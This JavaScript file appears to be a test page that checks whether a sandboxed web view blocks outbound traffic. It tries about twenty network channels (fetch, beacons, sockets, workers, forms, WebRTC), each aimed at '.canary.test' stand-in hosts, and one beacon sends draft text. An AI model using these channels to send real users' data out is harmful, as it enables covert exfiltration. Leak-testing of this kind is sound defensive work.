// Each way is tried by itself: what the web view does not know must not stop the others.
const ways = {
  fetch: () => fetch('http://fetch.canary.test/', { mode: 'no-cors' }),
  keepalive: () => fetch('http://keepalive.canary.test/', { keepalive: true, mode: 'no-cors' }),
  xhr() {
    const request = new XMLHttpRequest()
    request.open('GET', 'http://xhr.canary.test/')
    request.send()
  },
  beacon: () => navigator.sendBeacon('http://beacon.canary.test/', 'words of a draft'),
  websocket: () => new WebSocket('ws://websocket.canary.test/'),
  eventsource: () => new EventSource('http://eventsource.canary.test/'),
  image: () => (new Image().src = 'http://script-image.canary.test/a.png'),
  sound: () => new Audio('http://script-audio.canary.test/a.ogg').play(),
  face: () => new FontFace('Other', 'url(http://script-font.canary.test/a.woff2)').load(),
  module: () => import('http://import.canary.test/a.js'),
  worker: () => worker("importScripts('http://worker-import.canary.test/a.js')"),
  workerFetch: () => worker("fetch('http://worker-fetch.canary.test/', { mode: 'no-cors' })"),
  worklet: () => new AudioContext().audioWorklet.addModule('http://worklet.canary.test/a.js'),
  form: () => document.getElementById('form').submit(),
  link: () => document.getElementById('followed').click(),
  ping: () => document.getElementById('ping').click(),
  open: () => window.open('http://window-open.canary.test/'),
  async webrtc() {
    const call = new RTCPeerConnection({
      iceServers: [{ urls: 'stun:stun.canary.test:3478' }, { urls: 'stun:192.0.2.7:3478' }],
    })
    call.createDataChannel('words')
    await call.setLocalDescription(await call.createOffer())
  },
}

function worker(script) {
  return new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })))
}

for (const way of Object.values(ways)) {
  // A way that is not there is a way that leads nowhere.
  Promise.resolve()
    .then(way)
    .catch(() => {})
}

// Last of all the whole page leaves.
setTimeout(() => fetch('attack://localhost/tried').catch(() => {}), 6000)
setTimeout(() => (location.href = 'http://leaving.canary.test/'), 7000)
